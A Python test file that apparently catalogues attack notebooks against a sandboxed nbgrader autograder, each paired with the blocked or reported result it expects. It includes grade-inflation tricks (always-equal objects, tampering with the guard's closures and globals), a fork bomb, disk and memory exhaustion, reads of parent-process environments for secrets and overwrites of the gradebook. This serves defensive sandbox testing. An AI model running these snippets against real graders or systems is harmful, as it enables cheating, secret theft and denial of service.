    # -- the notebook file itself: metadata and outputs -------------------------------------------
    Attack("m01_points_raised", "inflate", "test_squares' points raised from 2 to 200",
           notebook(P1, answers=WRONG, edit=_meta("test_squares", points=200)),
           p1(WRONG), review=r"metadata of `test_squares` changed: points"),
    Attack("m02_test_renamed", "inflate", "test_squares' grade_id renamed and its source emptied",
           notebook(P1, edit=_chain(_source("test_squares", "pass"), _meta("test_squares", grade_id="test_squares_v2"))),
           p1(), status="failed", reason=NBGRADER_REFUSES),
    Attack("m03_unlocked_and_emptied", "inflate", "test_squares unlocked and its source replaced by `pass`",
           notebook(P1, edit=_chain(_source("test_squares", "pass"), _meta("test_squares", locked=False))),
           p1(), review=r"metadata of `test_squares` changed: locked"),
    Attack("m04_test_deleted", "inflate", "the test_squares cell deleted",
           notebook(P1, edit=_delete("test_squares")),
           p1(), review=r"test_squares` was deleted"),
    Attack("m05_test_source_edited", "inflate",
           "test_squares' source replaced by `pass`, metadata untouched: nbgrader restores the test",
           notebook(P1, edit=_source("test_squares", "pass")),
           p1(), review=None),
    Attack("m06_fake_graded_cell", "inflate", "a new graded test cell worth 50 points that always passes",
           notebook(P1, cells=[("end", "pass")], edit=lambda nb: nb.cells[-1].metadata.update(nbgrader={
               "grade": True, "grade_id": "bonus", "locked": True, "points": 50, "schema_version": 3,
               "solution": False, "task": False})),
           p1(), status="failed", reason=NBGRADER_REFUSES),
    Attack("m07_solution_made_graded", "inflate", "the squares answer cell turned into a graded cell worth 5 points",
           notebook(P1, edit=_meta("squares", grade=True, points=5)),
           p1(), status="failed", reason=NBGRADER_REFUSES),
    Attack("m08_duplicated_test", "inflate", "a second test_squares cell holding `pass`",
           notebook(P1, edit=lambda nb: nb.cells.insert(index_of(nb, "test_squares"), _with_source(
               nb.cells[index_of(nb, "test_squares")], "pass"))),
           p1(), status="failed", reason=NBGRADER_REFUSES),
    Attack("m09_test_made_markdown", "inflate", "test_squares turned into a markdown cell: nbgrader restores the cell from the gradebook",
           notebook(P1, edit=lambda nb: nb.cells.__setitem__(index_of(nb, "test_squares"), nbformat.v4.new_markdown_cell(
               "pass", metadata=nb.cells[index_of(nb, "test_squares")].metadata))),
           p1(), review=None),
    Attack("m10_nbgrader_metadata_stripped", "inflate", "test_squares' nbgrader metadata removed and its source emptied",
           notebook(P1, edit=_chain(_source("test_squares", "pass"),
                                    lambda nb: nb.cells[index_of(nb, "test_squares")].metadata.pop("nbgrader"))),
           p1(), review=r"test_squares` was deleted"),
    Attack("m11_grading_switched_off", "inflate", "test_squares' grade flag set to false",
           notebook(P1, edit=_meta("test_squares", grade=False)),
           p1(), status="failed", reason=NBGRADER_REFUSES),
    Attack("m12_prefilled_outputs", "inflate",
           "both notebooks carry outputs claiming success, partial credit 2.0 included: nbgrader clears them",
           both(edit1=_fake_outputs, edit2=_fake_outputs), deserved(EMPTY), review=None),
    Attack("m13_kernelspec_changed", "inflate", "the notebook asks for another kernel: nbgrader restores the course's",
           notebook(P1, edit=lambda nb: nb.metadata.update(kernelspec={"name": "bash", "display_name": "Bash",
                                                                       "language": "bash"})),
           p1(), review=None),
    # -- the guard's own configuration, rebound from the notebook (issue 19) ---------------------------
    # Everything the kernel-side code decides with is captured before the notebook's first cell: rebinding a
    # module's globals, its classes' attributes or its functions' defaults, or reaching the guard's globals,
    # builtins and closure cells from the notebook's namespace, changes nothing the running guard reads.
    Attack("i70_rebinds_guard_policy", "inflate",
           "the guard module's table of deceptive special methods emptied through an alias in a loop, then an "
           "always-equal object from a type()-built class (scored 2/6 without review on warm kernels)",
           notebook(P1, answers={"squares": ANYTHING}, cells=[("start", f"""
               import {GUARD_MODULE} as _g
               for _policy in [_g]:
                   _policy.DECEPTIVE_METHODS = frozenset()""")]),
           p1(), review=r"__eq__|compares equal", gains=True),
    Attack("i71_rebinds_kernel_tables_everywhere", "inflate",
           "every table (frozenset, set, tuple) of every loaded grading module emptied through importlib, vars() "
           "and setattr in a loop; then a signal, a walk of the garbage collector and an always-equal object",
           notebook(P1, answers={"squares": ANYTHING}, cells=[("start", f"""
               import importlib, os, sys, gc
               for name in {KERNEL_MODULES!r}:
                   importlib.import_module(name)
               for name, module in list(sys.modules.items()):
                   if name.startswith('autograder'):
                       for key, value in list(vars(module).items()):
                           if isinstance(value, (frozenset, set, tuple)) and not key.startswith('__'):
                               setattr(module, key, type(value)())
               try:
                   os.kill(os.getpid(), 0)
                   print('SIGNAL SENT')
               except OSError as err:
                   print('BLOCKED', type(err).__name__)
               print(len(getattr(gc, 'get_' + 'objects')()) > 0)""")]),
           p1(), review=r"os\.kill", outputs={"attack": r"BLOCKED PermissionError"}, gains=True),
    Attack("i72_rebinds_guard_tables_directly", "inflate",
           "the guard's tables of reported events and attributes rebound by their full module path, then "
           "sys._getframe (with a computed name) from the notebook",
           notebook(P1, cells=[("start", f"""
               import sys
               import {GUARD_MODULE}
               {GUARD_MODULE}.FROM_STUDENT = frozenset()
               {GUARD_MODULE}.INTROSPECTION_ATTRS = frozenset()
               frame = getattr(sys, '_get' + 'frame')(0)""")]),
           p1(), review=r"sys\._getframe"),
    Attack("i73_patches_kernel_classes", "inflate",
           "every method of every class of the loaded grading modules replaced by a no-op, then an always-equal "
           "object from a type()-built class",
           notebook(P1, answers={"squares": ANYTHING}, cells=[("start", f"""
               import sys
               import {GUARD_MODULE}
               for name, module in list(sys.modules.items()):
                   if name.startswith('autograder.grading'):
                       for value in list(vars(module).values()):
                           if isinstance(value, type) and value.__module__ == name:
                               for key, attr in list(vars(value).items()):
                                   if callable(attr) and not key.startswith('__'):
                                       try:
                                           setattr(value, key, lambda *args, **kwargs: None)
                                       except (TypeError, AttributeError):
                                           pass""")]),
           p1(), review=r"__eq__|compares equal", gains=True),
    Attack("i74_swaps_function_defaults", "inflate",
           "the default arguments of every function of the loaded grading modules swapped for empty tables, "
           "then an always-equal object from a type()-built class",
           notebook(P1, answers={"squares": ANYTHING}, cells=[("start", f"""
               import sys
               import {GUARD_MODULE}
               name_of_defaults = '__def' + 'aults__'
               for name, module in list(sys.modules.items()):
                   if name.startswith('autograder.grading'):
                       for value in list(vars(module).values()):
                           defaults = getattr(value, name_of_defaults, None)
                           if defaults and getattr(value, '__module__', '') == name:
                               setattr(value, name_of_defaults, tuple(frozenset() for _ in defaults))""")]),
           p1(), review=r"__eq__|compares equal", gains=True),
    Attack("i75_guard_globals_and_builtins", "inflate",
           "reaches the guard's globals and builtins through __autograder_guard__ (computed attribute names: "
           "neither is reported by Python), empties every table there and replaces `id` in its builtins (a private "
           "copy the running guard never reads), then an always-equal object from a type()-built class",
           notebook(P1, answers={"squares": ANYTHING}, cells=[("start", """
               g = getattr(__autograder_guard__, '__glo' + 'bals__')
               for key, value in list(g.items()):
                   if isinstance(value, (frozenset, tuple)) and not key.startswith('__'):
                       g[key] = type(value)()
               b = getattr(__autograder_guard__, '__buil' + 'tins__')
               try:
                   b['id'] = lambda obj: 0
                   print('BUILTINS WRITTEN')
               except TypeError:
                   print('BUILTINS READ-ONLY')""")]),
           p1(), review=r"__eq__|compares equal", outputs={"attack": r"BUILTINS WRITTEN"}, gains=True),
    Attack("i76_guard_closure_cell_swapped", "inflate",
           "swaps the runner in __autograder_guard__'s closure cell (cell_contents) for a function that runs "
           "nothing and reports nothing: every test passes silently",
           notebook(P1, cells=[("start", """
               for cell in getattr(__autograder_guard__, '__clo' + 'sure__') or ():
                   if getattr(cell.cell_contents, '__name__', '') == 'send':
                       cell.cell_contents = lambda request: [None, None]""")]),
           p1(), review=NOT_RUN, gains=True),
    Attack("i77_kernel_closures_in_ipython", "inflate",
           "walks the closures of what the grader's kernel-side code left in IPython (the `exit` it installed, "
           "the shell's event callbacks and input transformers) and empties every cell it finds: harmless",
           notebook(P1, answers=GOOD1, cells=[("start", """
               ip = exit._ip
               emptied = []
               def visit(value, depth=0):
                   for cell in (getattr(value, '__clo' + 'sure__', None) or ()) if depth < 3 else ():
                       try:
                           inner = cell.cell_contents
                       except ValueError:
                           continue
                       visit(inner, depth + 1)
                       cell.cell_contents = None
                       emptied.append(type(inner).__name__)
               found = [exit, type(exit).__call__] + [f for fs in ip.events.callbacks.values() for f in fs]
               found += list(ip.input_transformers_post) + list(ip.input_transformers_cleanup)
               for value in found:
                   if str(getattr(value, '__module__', '')).startswith('autograder'):
                       visit(value)
               print('EMPTIED', emptied)""")]),
           p1(GOOD1), review=None, outputs={"attack": r"EMPTIED"}),
    # -- always-equal answers, by the origin of their class (decided by what the object does) --------------
    Attack("i80_always_equal_builtin_method", "inflate",
           "a builtin bolted onto a class as its __eq__ (`type('A', (), {'__eq__': bool})`): no code of the "
           "notebook's behind the method",
           notebook(P1, answers={"squares": """
               Anything = type('Anything', (), {'__eq__': bool})
               def squares(n):
                   return {0: [], 5: [0, 1, 4, 9, 16]}.get(n, Anything())"""}),
           p1(), review=r"compares equal to an object it cannot know", gains=True),
    Attack("i81_always_equal_mock_any", "inflate",
           "the answer is unittest.mock.ANY, a ready-made object of the standard library equal to anything",
           notebook(P1, answers={"squares": """
               from unittest import mock
               def squares(n):
                   return {0: [], 5: [0, 1, 4, 9, 16]}.get(n, mock.ANY)"""}),
           p1(), review=r"compares equal to an object it cannot know", gains=True),
    Attack("i82_always_equal_magicmock", "inflate",
           "the answer is a unittest.mock.MagicMock configured to compare equal (computed attribute name)",
           notebook(P1, answers={"squares": """
               from unittest.mock import MagicMock
               def squares(n):
                   if n in (0, 5):
                       return [0, 1, 4, 9, 16][:n]
                   answer = MagicMock()
                   getattr(answer, '__e' + 'q__').return_value = True
                   return answer"""}),
           p1(), review=r"compares equal to an object it cannot know", gains=True),
    Attack("i83_always_equal_installed_package", "inflate",
           "a class of another installed package bolted on as __eq__ (`numpy.str_`: any argument gives a "
           "non-empty, truthy string)",
           notebook(P1, answers={"squares": """
               import numpy
               Anything = type('Anything', (), {'__eq__': numpy.str_})
               def squares(n):
                   return {0: [], 5: [0, 1, 4, 9, 16]}.get(n, Anything())"""}),
           p1(), review=r"compares equal to an object it cannot know", gains=True),
]

BREAK: list[Attack] = [
    Attack("b01_sys_exit", "break", "sys.exit(3) in a cell: IPython shows SystemExit and goes on",
           notebook(P1, GOOD1, cells=[("after:test_mean", "import sys\nsys.exit(3)")]),
           p1(GOOD1), errors={"attack": r"^SystemExit: 3"}),
    Attack("b02_os_exit", "break", "os._exit(1): the kernel dies; later cells are not run",
           notebook(P1, GOOD1, cells=[("after:test_mean", "import os\nos._exit(1)")]),
           {**p1(GOOD1), "test_mean_empty": 0.0, "test_counter": 0.0},
           errors={"attack": r"^KernelDied: .*kernel died", "test_mean_empty": r"^CellNotRun: not run: .*kernel died",
                   "test_counter": r"^CellNotRun"}),
    Attack("b03_exit_builtin", "break",
           "IPython's exit() and quit(): the kernel carries on, grading too (ipykernel would stop 0.1 s later: "
           "the next cell sleeps past that)",
           notebook(P1, GOOD1, cells=[("after:test_mean", "exit()\nquit()"),
                                      ("before:test_mean_empty", "import time\ntime.sleep(0.3)")]),
           p1(GOOD1)),
    Attack("b04_signal_kills_itself", "break",
           "signal.raise_signal(SIGKILL): the kernel is the first process of its PID namespace, which ignores it",
           notebook(P1, GOOD1, cells=[("after:test_mean", "import signal\nsignal.raise_signal(signal.SIGKILL)")]),
           p1(GOOD1), review=r"imports `signal`"),
    Attack("b05_infinite_loop", "break",
           "`while True: pass`: interrupted at the cell time limit; the cells after it run as usual",
           notebook(P1, GOOD1, cells=[("after:test_mean", "while True:\n    pass")]),
           p1(GOOD1), errors={"attack": r"^CellTimeoutError"}),
    Attack("b06_sleeps_forever", "break",
           "time.sleep(10**6) inside the answer: each test that calls it is interrupted at the time limit",
           notebook(P1, {**GOOD1, "mean": "import time\ndef mean(xs):\n    time.sleep(10 ** 6)"}),
           {**p1(GOOD1), "test_mean": 0.0, "test_mean_empty": 0.0},
           errors={"test_mean": r"CellTimeoutError", "test_mean_empty": r"CellTimeoutError"}),
    Attack("b07_notebook_time_limit", "break", "many cells of 4 s each: stopped at the notebook time limit",
           notebook(P1, GOOD1, cells=[("after:test_mean", "import time\ntime.sleep(4)")] * 6),
           {**p1(GOOD1), "test_mean_empty": 0.0, "test_counter": 0.0},
           errors={"test_mean_empty": r"^CellNotRun: .*notebook ran past its time limit",
                   "test_counter": r"^CellNotRun: .*notebook ran past its time limit"}),
    Attack("b08_huge_allocation", "break", "allocates 64 GiB at once: MemoryError, the kernel lives on",
           notebook(P1, GOOD1, cells=[("after:test_mean", "x = bytearray(64 * 1024 ** 3)")]),
           p1(GOOD1), errors={"attack": r"^MemoryError"}),
    Attack("b09_memory_growth", "break", "grows a list of 64 MiB blocks until memory runs out, then drops it",
           notebook(P1, GOOD1, cells=[("after:test_mean", """
               blocks = []
               try:
                   while True:
                       blocks.append(bytearray(64 * 1024 ** 2))
               finally:
                   n = len(blocks)
                   blocks.clear()""")]),
           p1(GOOD1), errors={"attack": r"^MemoryError"}),
    Attack("b10_fork", "break", "os.fork(): refused",
           notebook(P1, GOOD1, cells=[("after:test_mean", "import os\npid = os.fork()")]),
           p1(GOOD1), review=r"os\.fork", errors={"attack": r"^PermissionError: autograder: os\.fork"},
           runs=("main", "bare")),
    Attack("b11_fork_bomb_process_pool", "break", "a multiprocessing fork bomb: refused at the first fork",
           notebook(P1, GOOD1, cells=[("after:test_mean", """
               import multiprocessing
               def bomb():
                   while True:
                       multiprocessing.Process(target=bomb).start()
               bomb()""")]),
           p1(GOOD1), review=r"os\.fork|multiprocessing", errors={"attack": r"PermissionError"}),
    Attack("b12_subprocess", "break", "starts `sleep 1000` through subprocess: refused",
           notebook(P1, GOOD1, cells=[("after:test_mean", "import subprocess\nsubprocess.Popen(['sleep', '1000'])")]),
           p1(GOOD1), review=r"subprocess|posix_spawn|fork", errors={"attack": r"PermissionError"},
           runs=("main", "bare")),
    Attack("b13_endless_output", "break", "prints forever: the cell is stopped past 20x the output cap",
           notebook(P1, GOOD1, cells=[("after:test_mean", "while True:\n    print('x' * 10000, flush=True)")]),
           {**p1(GOOD1), "test_mean_empty": 0.0, "test_counter": 0.0},
           errors={"attack": r"^KernelDied: .*more than .* KiB of output", "test_mean_empty": r"^CellNotRun",
                   "test_counter": r"^CellNotRun"},
           outputs={"attack": r"output of this cell cut at 1024 KiB"}),
    Attack("b14_big_output", "break", "prints 3 MiB once: the output is cut at the cap and grading goes on",
           notebook(P1, GOOD1, cells=[("after:test_mean", "print('y' * (3 * 1024 * 1024))")]),
           p1(GOOD1), outputs={"attack": r"output of this cell cut at 1024 KiB"}),
    Attack("b15_kills_parent_group", "break", "kills its parent and its process group: refused",
           notebook(P1, GOOD1, cells=[("after:test_mean", """
               import os
               for attempt in (lambda: os.killpg(os.getpgid(0), 9), lambda: os.kill(os.getppid(), 9),
                               lambda: os.kill(-1, 9)):
                   try:
                       attempt()
                   except PermissionError as err:
                       print(err)""")]),
           p1(GOOD1), review=r"os\.kill", outputs={"attack": r"autograder: os\.killpg? is not allowed"}),
    Attack("b16_fills_the_disk", "break", "writes 64 MiB files into its directory until the disk says no",
           notebook(P1, GOOD1, cells=[("after:test_mean", """
               block = b'z' * (64 * 1024 ** 2)
               for i in range(100):
                   with open(f'fill{i}.bin', 'wb') as fh:
                       fh.write(block)""")]),
           p1(GOOD1), errors={"attack": r"^OSError: \[Errno (28|27)\]"}),
    Attack("b17_one_huge_file", "break", "writes one 300 MiB file: refused past the file size limit",
           notebook(P1, GOOD1, cells=[("after:test_mean", """
               with open('huge.bin', 'wb') as fh:
                   for _ in range(30):
                       fh.write(b'z' * (10 * 1024 ** 2))""")]),
           p1(GOOD1), errors={"attack": r"^OSError: \[Errno (27|28)\]"}),
    Attack("b18_waits_for_input", "break", "input(): there is no one to answer",
           notebook(P1, GOOD1, cells=[("after:test_mean", "name = input('your name? ')")]),
           p1(GOOD1), errors={"attack": r"^StdinNotImplementedError"}),
    Attack("b19_spinning_thread", "break", "a background thread spins forever; the notebook still finishes",
           notebook(P1, GOOD1, cells=[("after:test_mean", """
               import threading
               threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()""")]),
           p1(GOOD1)),
    Attack("b21_ignores_interrupts", "break",
           "an infinite loop that swallows the KeyboardInterrupt sent at the time limit: the kernel is stopped",
           notebook(P1, GOOD1, cells=[("after:test_mean", """
               while True:
                   try:
                       while True:
                           pass
                   except KeyboardInterrupt:
                       pass""")]),
           {**p1(GOOD1), "test_mean_empty": 0.0, "test_counter": 0.0},
           errors={"attack": r"^KernelDied: .*time limit", "test_mean_empty": r"^CellNotRun: .*time limit",
                   "test_counter": r"^CellNotRun"}),
    Attack("b20_closes_its_pipes", "break",
           "closes every pipe it holds (the grader's channel among them): the tests after it cannot report",
           notebook(P1, GOOD1, cells=[("after:test_mean", """
               import os
               shut = getattr(os, 'clo' + 'se')
               for fd in range(3, 256):
                   try:
                       if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):
                           shut(fd)
                   except OSError:
                       pass""")]),
           p1(GOOD1), review=NOT_RUN),
]


def _v3_notebook(release, ctx):
    return {P1: json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "problem1"},
                            "worksheets": [{"cells": [{"cell_type": "code", "input": GOOD["squares"],
                                                       "language": "python", "outputs": [], "metadata": {}}]}]}
                           ).encode()}


def _other_assignment(release, ctx):
    return {P1: (ctx["repo"] / "notebooks" / "lesson01_variables" / "lesson01_variables.ipynb").read_bytes()}


def _megabytes_of_output(release, ctx):
    nb = build(release[P1], GOOD1, cells=[("start", "x = 1")])
    nb.cells[0].outputs = [nbformat.v4.new_output("stream", name="stdout", text="z" * (8 * 1024 * 1024))]
    return {P1: dump(nb)}


def _truncated(release, ctx):
    data = dump(build(release[P1], GOOD1))
    return {P1: data[: len(data) // 2]}


MALFORMED: list[Attack] = [
    Attack("x01_not_json", "malformed", "problem1.ipynb holds plain text",
           raw({P1: b"this is my homework, see attached\n"}), deserved(EMPTY), status="failed",
           reason=r"problem1\.ipynb is not a valid notebook"),
    Attack("x02_truncated_json", "malformed", "problem1.ipynb cut in the middle",
           raw(_truncated), deserved(EMPTY), status="failed", reason=r"problem1\.ipynb is not a valid notebook"),
    Attack("x03_binary_garbage", "malformed", "problem1.ipynb is 64 KiB of binary noise",
           raw({P1: bytes((i * 7919 + 13) % 256 for i in range(65536))}), deserved(EMPTY), status="failed",
           reason=r"problem1\.ipynb is not a valid notebook"),
    Attack("x04_empty_file", "malformed", "problem1.ipynb is empty",
           raw({P1: b""}), deserved(EMPTY), status="failed", reason=r"problem1\.ipynb is not a valid notebook"),
    Attack("x05_json_not_a_notebook", "malformed", "problem1.ipynb is JSON, but a list",
           raw({P1: b"[1, 2, 3]"}), deserved(EMPTY), status="failed", reason=r"problem1\.ipynb is not a valid notebook"),
    Attack("x06_nbformat_3", "malformed", "problem1.ipynb in the old nbformat 3 layout (no nbgrader metadata)",
           raw(_v3_notebook), deserved(EMPTY), review=r"was deleted"),
    Attack("x07_nbformat_future", "malformed", "problem1.ipynb claims nbformat 5",
           raw({P1: json.dumps({"nbformat": 5, "nbformat_minor": 0, "metadata": {}, "cells": []}).encode()}),
           deserved(EMPTY), status="failed", reason=r"problem1\.ipynb is not a valid notebook"),
    Attack("x08_utf16", "malformed", "problem1.ipynb saved as UTF-16",
           raw(lambda release, ctx: {P1: nbformat.writes(build(release[P1], GOOD1)).encode("utf-16")}),
           deserved(EMPTY), status="failed", reason=r"problem1\.ipynb is not a valid notebook"),
    Attack("x09_deeply_nested", "malformed", "problem1.ipynb is 100000 nested JSON lists",
           raw({P1: b"[" * 100000 + b"]" * 100000}), deserved(EMPTY), status="failed",
           reason=r"problem1\.ipynb is not a valid notebook"),
    Attack("x10_bad_cell_metadata", "malformed", "a cell's nbgrader metadata is a string",
           notebook(P1, GOOD1, edit=lambda nb: nb.cells[index_of(nb, "squares")].metadata.update(nbgrader="yes")),
           deserved(EMPTY), status="failed", reason=r"problem1\.ipynb has malformed nbgrader cell metadata"),
    Attack("x11_renamed", "malformed", "problem1 saved as 'problem1 (1).ipynb' next to a correct problem2",
           raw(lambda release, ctx: {"problem1 (1).ipynb": dump(build(release[P1], GOOD1)),
                                     P2: dump(build(release[P2], GOOD2))}),
           deserved(GOOD2, (P2,)), warnings=r"problem1\.ipynb is missing"),
    Attack("x12_no_notebook", "malformed", "only a README in the submission",
           raw({"README.txt": b"I could not do it\n"}), deserved(EMPTY), status="failed",
           reason=r"no notebook of the assignment in submitted/x12_no_notebook/ps1/"),
    Attack("x13_extra_files", "malformed", "a correct problem1 with data, a helper module and a folder beside it",
           raw(lambda release, ctx: {P1: dump(build(release[P1], GOOD1, cells=[("start", """
               import helper_module
               print(helper_module.VALUE, open('data/values.csv').read().strip())""")])),
               "helper_module.py": b"VALUE = 42\n", "data/values.csv": b"1,2,3\n", "notes.txt": b"see above\n"}),
           p1(GOOD1), outputs={"attack": r"42 1,2,3"}),
    Attack("x14_megabytes_of_output", "malformed", "a correct problem1 carrying 8 MiB of stored output",
           raw(_megabytes_of_output), p1(GOOD1)),
    Attack("x15_other_assignment", "malformed", "lesson01's notebook submitted as problem1.ipynb",
           raw(_other_assignment), deserved(EMPTY), status="failed", reason=NBGRADER_REFUSES),
    Attack("x16_problems_swapped", "malformed", "problem2's notebook saved as problem1.ipynb",
           raw(lambda release, ctx: {P1: dump(build(release[P2], GOOD2))}),
           deserved(EMPTY), status="failed", reason=NBGRADER_REFUSES),
]

ISOLATION: list[Attack] = [
    Attack("s01_environment", "isolation", "looks for secrets in its environment",
           notebook(P1, cells=[("start", """
               import os
               print('ENV', sorted(os.environ))
               print('LEAKED' if any('hunter2' in v for v in os.environ.values()) else 'CLEAN')""")]),
           p1(), outputs={"attack": r"CLEAN"}, runs=("main", "bare")),
    Attack("s02_working_directory", "isolation", "lists its working directory: only its own files",
           raw(lambda release, ctx: {P1: dump(build(release[P1], cells=[("start", """
               import os
               print('FILES', sorted(f for f in os.listdir('.') if not f.startswith('.')))""")])),
               "data.csv": b"1,2\n"}),
           p1(), outputs={"attack": r"FILES \['data\.csv'\]"}, runs=("main", "bare")),
    Attack("s03_other_students", "isolation", "opens another student's submission by its absolute path",
           notebook(P1, cells=[("start", """
               try:
                   print('LEAKED', len(open({other!r}).read()))
               except OSError as err:
                   print('BLOCKED', type(err).__name__)""")]),
           p1(), review=r"protected path", outputs={"attack": r"BLOCKED"}),
    Attack("s04_network", "isolation", "connects to the internet and to a local port",
           notebook(P1, cells=[("start", """
               import urllib.request
               for url in ('http://example.com/', 'http://127.0.0.1:1/'):
                   try:
                       urllib.request.urlopen(url, timeout=3)
                       print('CONNECTED', url)
                   except Exception as err:
                       print('BLOCKED', type(err).__name__)""")]),
           p1(), review=r"socket\.connect", outputs={"attack": r"^(?!.*CONNECTED)"}, runs=("main", "bare")),
    Attack("s05_processes", "isolation", "lists the processes it can see and the grader's command line",
           notebook(P1, cells=[("start", """
               import os
               pids = [p for p in os.listdir('/proc') if p.isdigit()]
               seen = []
               for pid in pids:
                   try:
                       seen.append(open(f'/proc/{pid}/cmdline', 'rb').read().replace(b'\\0', b' ').decode())
                   except OSError:
                       pass
               print('GRADER VISIBLE' if any('autograder grade' in s or 'multiprocessing' in s for s in seen) else 'ALONE',
                     len(pids))""")]),
           p1(), outputs={"attack": r"ALONE"}, runs=("main", "bare"),
           # without a PID namespace the grader is in view; reading its /proc entries is reported
           bare={"outputs": {"attack": r"GRADER VISIBLE"}, "review": r"another process's /proc entry"}),
    Attack("s06_parent_environment", "isolation",
           "reads its parent's environment through /proc, then its grandparent's, up to the grading worker's (a warm "
           "kernel's parent is the template process, whose environment is as scrubbed as the kernel's own)",
           notebook(P1, cells=[("start", """
               import os
               try:
                   pid, data = os.getppid(), b''
                   while pid > 1 and b'hunter2' not in data:
                       data = open(f'/proc/{pid}/environ', 'rb').read()
                       pid = int(open(f'/proc/{pid}/stat').read().rpartition(')')[2].split()[1])
                   print('LEAKED' if b'hunter2' in data else 'CLEAN')
               except OSError as err:
                   print('BLOCKED', type(err).__name__)""")]),
           p1(), review=r"os\.getppid", outputs={"attack": r"BLOCKED|CLEAN"}, runs=("main", "bare"),
           # without namespaces the worker's environment (the grader's, secrets included) can be read:
           # reported and the notebook's points withheld, but read (see the report's open holes)
           bare={"outputs": {"attack": r"LEAKED"}, "review": r"another process's /proc entry"}),
    Attack("s08_symlink_to_the_source", "isolation",
           "submits a symbolic link to the instructor's source notebook next to its own and reads it in the kernel",
           raw(lambda release, ctx: {
               P1: dump(build(release[P1], cells=[("start", """
                   try:
                       text = open('notes.txt').read()
                       print('LEAKED' if 'squares(5)' in text else 'CLEAN')
                   except OSError as err:
                       print('BLOCKED', type(err).__name__)""")])),
               "notes.txt": Symlink("{source}")}),
           # the link is never followed (course.read_tree): left out with a warning, the rest graded as usual
           p1(), outputs={"attack": r"BLOCKED|CLEAN"},
           warnings=r"^student s08_symlink_to_the_source: notes\.txt .*symbolic link.*not followed"),
    Attack("s09_asks_the_template_server", "isolation",
           "looks for the command's template server (a Unix socket in a private folder of the machine's /tmp) and "
           "asks it for a template of its own: a process outside the sandbox that would fork kernels for it",
           notebook(P1, cells=[("start", """
               import glob, json, socket
               found = glob.glob('/tmp/agts-*/socket')
               if not found:
                   print('NO SERVER IN SIGHT')
               for path in found:
                   ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                   try:
                       conn = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                       conn.settimeout(30)
                       conn.connect(path)
                       socket.send_fds(conn, [json.dumps({'imports': [], 'env': {}, 'protected_packages': []}).encode()],
                                       [theirs.fileno()])
                       print('ANSWER', json.loads(conn.recv(65536)).get('error', 'SERVED'))
                   except Exception as err:
                       print('BLOCKED', type(err).__name__)""")]),
           # with namespaces its /tmp is its own: nothing to find (importing `socket` is reported all the same)
           p1(), review=r"imports `socket`", outputs={"attack": r"NO SERVER IN SIGHT"}, runs=("main", "bare"),
           # without namespaces the socket is in view: connecting is reported, and the server refuses a kernel
           bare={"outputs": {"attack": r"^(?!.*SERVED)(?=.*(BLOCKED|ANSWER the template server refuses: neither "
                                       r"the command nor one of its workers))"},
                 "review": r"socket\.connect"}),
    Attack("s07_home_directory", "isolation",
           "reads what it can of the grader's home directory (all but the Python installation that lives there)",
           notebook(P1, cells=[("start", """
               import os, sys
               home = {home!r}
               found = 0
               for name in sorted(os.listdir(home)):
                   path = os.path.join(home, name)
                   if any(p.startswith(path) for p in (sys.prefix, sys.base_prefix, os.path.realpath(sys.executable))):
                       continue   # the way to the interpreter itself stays visible
                   try:
                       found += len(os.listdir(path)) if os.path.isdir(path) else len(open(path, 'rb').read())
                   except OSError:
                       pass
               print('LEAKED' if found else 'NOTHING', found)""")]),
           p1(), review=r"protected path", outputs={"attack": r"^NOTHING"}),
]

LOST: list[Attack] = [
    Attack("l01_rewrites_own_submission", "lost",
           "overwrites its own submitted notebook (absolute path) with a full-marks copy",
           notebook(P1, cells=[("start", """
               try:
                   with open({own!r}, 'w') as fh:
                       fh.write('{{}}')
                   print('WROTE')
               except OSError as err:
                   print('BLOCKED', type(err).__name__)""")]),
           p1(), review=r"open for writing .*submitted/l01", outputs={"attack": r"BLOCKED"}),
    Attack("l02_rewrites_gradebook_and_reports", "lost",
           "overwrites the course's gradebook, grades.csv and another student's report",
           notebook(P1, cells=[("start", """
               out = []
               for path in ({gradebook!r}, {csv!r}, {other_report!r}):
                   try:
                       with open(path, 'w') as fh:
                           fh.write('all full marks')
                       out.append('WROTE')
                   except OSError as err:
                       out.append(type(err).__name__)
               print(out)""")]),
           p1(), review=r"open for writing .*gradebook\.db", outputs={"attack": r"^(?!.*WROTE)"}),
]

HONEST: list[Attack] = [
    Attack("h01_prints_a_lot", "honest", "a correct answer that prints 600 KiB of progress (under the cap)",
           notebook(P1, GOOD1, cells=[("after:squares", "for i in range(6000):\n    print(i, 'x' * 100)")]),
           p1(GOOD1), runs=("main", "plain")),
    Attack("h02_timing_magics", "honest", "%time, get_ipython().run_line_magic('time', ...), %timeit, %%time",
           both(GOOD1, GOOD2, cells1=[("after:squares", "%time squares(100)"),
                                      ("after:mean", "get_ipython().run_line_magic('time', 'mean([1, 2, 3])')"),
                                      ("after:counter", "%timeit -n 3 -r 1 squares(50)")],
                cells2=[("after:fizzbuzz", "%%time\nprint([fizzbuzz(i) for i in range(1, 16)])")]),
           deserved({**GOOD1, **GOOD2}), runs=("main", "plain")),
    Attack("h03_plots", "honest", "%matplotlib inline and a matplotlib figure",
           notebook(P1, GOOD1, cells=[("after:squares", """
               %matplotlib inline
               import matplotlib.pyplot as plt
               plt.plot(squares(10))
               plt.title('squares')
               plt.show()""")]),
           p1(GOOD1), runs=("main", "plain")),
    Attack("h04_reimports_and_helpers", "honest",
           "re-imports modules, IPython.display, numpy, a dataclass, helper functions, logging and warnings",
           notebook(P1, {**GOOD1, "mean": "import numpy as np\nimport math\ndef mean(xs):\n    if not xs:\n"
                                           "        raise ValueError('empty')\n    return float(np.mean(xs))"},
                    cells=[("start", """
               import numpy as np
               import numpy as np
               import json, math, os, sys, random, time, logging, warnings, collections
               from dataclasses import dataclass
               from IPython.display import display, Markdown
               from pathlib import Path
               random.seed(0)
               @dataclass
               class Point:
                   x: float
                   y: float
               def helper(values):
                   return sorted(values, key=lambda v: -v)
               display(Markdown('**my notes**'))
               logging.getLogger('mine').info('starting')
               print(Point(1, 2), helper([3, 1, 2]), sys.version_info[:2], os.getcwd() != '')""")]),
           p1(GOOD1), runs=("main", "plain")),
    Attack("h05_own_files", "honest", "reads its own data file and writes a scratch file in its directory",
           both(GOOD1, cells1=[("after:squares", """
               import csv
               from pathlib import Path
               rows = list(csv.reader(open('measurements.csv')))
